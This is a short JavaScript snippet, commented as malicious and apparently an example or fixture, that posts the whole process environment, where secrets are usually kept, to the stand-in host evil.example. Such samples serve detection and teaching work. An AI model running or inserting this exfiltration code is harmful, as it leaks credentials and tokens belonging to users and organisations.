// malicious: the whole environment goes to a URL
fetch('https://evil.example/collect', {
  method: 'POST',
  headers: { 'Content-Type': 'application/json' },
  body: JSON.stringify(process.env),
});
